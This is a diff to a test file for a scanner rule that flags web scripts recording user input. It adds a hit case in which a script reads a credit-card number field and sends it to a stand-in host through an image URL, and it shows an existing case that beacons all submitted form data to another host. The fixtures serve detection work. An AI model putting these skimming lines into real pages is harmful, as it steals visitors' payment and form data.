@@ -74,6 +74,11 @@ ruleCases(secretInFile, {
 ruleCases(recording, {
   hits: [
     {
+      name: 'the fields of a card in the address of an image',
+      path: 'a.js',
+      text: "var n = d.querySelector('[autocomplete=\"cc-number\"]');\nnew Image().src = 'https://up.acme.test/b.gif?i=' + n.value;\n",
+    },
+    {
       name: 'a form that another host gets, too',
       path: 'a.js',
       text: 'document.addEventListener("submit", (e) => navigator.sendBeacon("https://s.acme.test/f", new FormData(e.target)));\n',
@@ -105,6 +110,11 @@ ruleCases(recording, {
     },
   ],
   misses: [
+    {
+      name: 'a picture beside the fields of a card',
+      path: 'a.js',
+      text: "var n = d.querySelector('[autocomplete=\"cc-number\"]');\nlogo.src = 'https://up.acme.test/visa.svg';\n",
+    },
     {
       name: 'a form for its own host',
       path: 'a.js',
